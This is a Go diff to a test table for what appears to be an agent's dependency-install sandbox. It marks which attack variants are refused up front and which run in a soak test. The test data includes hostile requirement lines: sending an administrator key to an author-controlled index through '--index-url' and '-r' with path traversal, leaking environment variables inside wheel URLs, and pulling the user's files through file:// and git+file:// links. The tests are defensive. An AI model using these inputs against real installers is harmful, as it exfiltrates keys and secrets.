@@ -21,6 +21,12 @@ type recipe struct {
 	prepare func(c *attempted)
 	// refused says that its dependency files are to be refused by that reason.
 	refused bool
+	// spelling says that it is another way to write what another one tries: tests of package
+	// venv (TestWhatIsRefused, TestDependenciesInTheTree) refuse it at the agent's own door, and
+	// it is installed in the soak alone.
+	spelling bool
+	// everywhere has a second node take it, too; in the soak all are taken.
+	everywhere bool
 	// control is what its tool answers: the install must succeed, and serve after a restart, too.
 	control string
 }
@@ -204,14 +210,16 @@ var kinds = []string{"functions", "script", "entry points", "TOOLS.yml", "comman
 func (t *installTable) dependencyFiles() {
 	const area, by = "dependency files", "the agent reads them first"
 	// refused has an attempt that the agent refuses before any program sees it.
-	refused := func(what string, files map[string]string, proofs ...func(*attempted) string) {
-		t.row(area, what, by, always, t.recipe(recipe{name: what, files: files, refused: true}), append(proofs, leaks, altered, asksAuthor)...)
+	attempt := func(spelling bool, what string, files map[string]string, proofs ...func(*attempted) string) {
+		t.row(area, what, by, always, t.recipe(recipe{name: what, files: files, refused: true, spelling: spelling}), append(proofs, leaks, altered, asksAuthor)...)
 	}
+	refused := func(what string, files map[string]string) { attempt(false, what, files) }
 	for depth, how := range []string{"../../../keys/admin.nk", "../../keys/admin.nk", "{data}/keys/admin.nk"} {
-		refused(fmt.Sprintf("send the administrator's key to a server of the author's (`--index-url`, `-r`, %s)", []string{"from the fetched tree", "from the copy of it", "absolute"}[depth]),
+		attempt(depth > 0, fmt.Sprintf("send the administrator's key to a server of the author's (`--index-url`, `-r`, %s)", []string{"from the fetched tree", "from the copy of it", "absolute"}[depth]),
 			requiring("", "--index-url {author}/simple", "-r "+how))
 	}
-	refused("send the key to another server of the author's (`--extra-index-url`)", requiring("", "--extra-index-url {author}/simple", "-r {data}/keys/admin.nk"))
+	attempt(true, "send the key to another server of the author's (`--extra-index-url`)", requiring("", "--extra-index-url {author}/simple", "-r {data}/keys/admin.nk"))
+	whole := []int{0, 7, 8, 10, 15, 17, 18, 22} // places of those that are no other spelling
 	sent := []struct{ what, line string }{
 		{"send a word of a file of the agent's user as a package's name, to the agent's own package index", "-r {planted}/word.txt"},
 		{"the same by `--requirement=`", "--requirement={planted}/word.txt"},
@@ -238,20 +246,20 @@ func (t *installTable) dependencyFiles() {
 		{"read requirements from an address", "-r {author}/files/requirements.txt"},
 		{"read constraints from an address", "honest\n-c {author}/files/constraints.txt"},
 	}
-	for _, one := range sent {
-		refused(one.what, requiring("", one.line))
+	for i, one := range sent {
+		attempt(!slices.Contains(whole, i), one.what, requiring("", one.line))
 	}
-	for _, line := range []string{"--config-settings=x=y", "--global-option=x", "--no-index", "--trusted-host 127.0.0.1", "--unknown"} {
-		refused("give an option, `"+line+"`", requiring("", line, "honest"), installed)
+	for i, line := range []string{"--config-settings=x=y", "--global-option=x", "--no-index", "--trusted-host 127.0.0.1", "--unknown"} {
+		attempt(i > 0, "give an option, `"+line+"`", requiring("", line, "honest"), installed)
 	}
-	for _, name := range []string{"UV_ATTACKED", "PIP_ATTACKED", "GIT_ATTACKED", "XDG_ATTACKED", "ATTACKED"} {
-		refused("send a variable of the agent, `${"+name+"}`", requiring("", "x @ {author}/${"+name+"}/x-1-py3-none-any.whl"))
+	for i, name := range []string{"UV_ATTACKED", "PIP_ATTACKED", "GIT_ATTACKED", "XDG_ATTACKED", "ATTACKED"} {
+		attempt(i > 0, "send a variable of the agent, `${"+name+"}`", requiring("", "x @ {author}/${"+name+"}/x-1-py3-none-any.whl"))
 	}
-	refused("name a file by `${HOME}`", requiring("", "-r ${HOME}/../planted/{id}/word.txt"))
+	attempt(true, "name a file by `${HOME}`", requiring("", "-r ${HOME}/../planted/{id}/word.txt"))
 	for _, kind := range []string{"script", "entry points", "TOOLS.yml", "command"} {
 		refused("an index of the kind "+kind+": install a file of the agent's user", requiring(kind, "{id}priv @ file://{planted}/wheels/{id}priv-1-py3-none-any.whl"))
-		refused("clone a repository of the agent's user, "+kind, requiring(kind, "{id}priv @ git+file://{planted}/repository"))
-		refused("send a variable of the agent, "+kind, requiring(kind, "x @ {author}/${UV_ATTACKED}/x-1-py3-none-any.whl"))
+		attempt(true, "clone a repository of the agent's user, "+kind, requiring(kind, "{id}priv @ git+file://{planted}/repository"))
+		attempt(true, "send a variable of the agent, "+kind, requiring(kind, "x @ {author}/${UV_ATTACKED}/x-1-py3-none-any.whl"))
 	}
 	t.row(area, "build a package in the tree with files of the agent's user (`build-system.requires`)", "builds see their own", confined, t.recipe(recipe{name: "build-system.requires", files: plain(map[string]string{
 		"requirements.txt": "./lib\n", "lib/b.py": backend("mylib", "mylib", ""),
@@ -286,7 +294,7 @@ func (t *installTable) dependencyFiles() {
 	}) {
 		for _, served := range []bool{false, true} {
 			where := map[bool]string{false: "in a folder", true: "in a repository"}[served]
-			r := t.recipe(recipe{name: what + ", " + where, files: files, served: served})
+			r := t.recipe(recipe{name: what + ", " + where, files: files, served: served, spelling: served && !strings.HasPrefix(what, "link over")})
 			t.row(area, what+", "+where, "bundles take no link that leads out", always, r, leaks, altered, installed)
 		}
 	}
@@ -294,8 +302,11 @@ func (t *installTable) dependencyFiles() {
 
 func (t *installTable) settingsOfUV() {
 	const area, by = "settings of uv", "standard keys alone are taken"
+	// One of each kind, and those that no refusal stops.
+	whole := []string{"take an index of the author's, in `uv.toml`", "write to a folder", "have programs", "take hashes", "have its environment", "choose another", "configure pip", "take a file of the agent's user as", "take an index of the author's (", "have a program run"}
 	own := func(what string, more map[string]string, proofs ...func(*attempted) string) {
-		t.row(area, what, by, always, t.recipe(recipe{name: what, files: plain(more)}), append(proofs, leaks, altered)...)
+		spelling := !slices.ContainsFunc(whole, func(begins string) bool { return strings.HasPrefix(what, begins) })
+		t.row(area, what, by, always, t.recipe(recipe{name: what, files: plain(more), spelling: spelling}), append(proofs, leaks, altered)...)
 	}
 	pyproject := func(dependencies, tool string) map[string]string {
 		return map[string]string{"pyproject.toml": "[project]\nname = \"x\"\nversion = \"1\"\ndependencies = [" + dependencies + "]\n" + tool}
